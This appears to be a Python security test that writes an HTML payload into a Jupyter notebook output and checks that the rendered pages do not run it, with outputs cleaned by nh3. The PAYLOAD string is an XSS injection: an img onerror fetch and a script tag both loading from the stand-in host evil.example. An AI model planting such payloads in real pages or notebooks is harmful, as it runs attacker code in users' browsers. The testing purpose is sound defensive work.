# A display that is a script, in the pages made of it.
# stopped by: outputs are kept by kind, HTML among them cleaned by nh3; the pages allow no script
# control: own
# expect: graded 0

from target import displayed, displaying, obeyed, trusting

MARK = "evil.example"
PAYLOAD = '<img src=x onerror="fetch(\'//evil.example\')"><script src=\'//evil.example/a.js\'></script>'


def make(folder, name, honest):
    (folder / f"{name}.ipynb").write_text(displaying("text/html", PAYLOAD))


def control(folder):
    return browsed(trusting(displayed("text/html", PAYLOAD)))


def browsed(page):
    return obeyed(page, MARK)
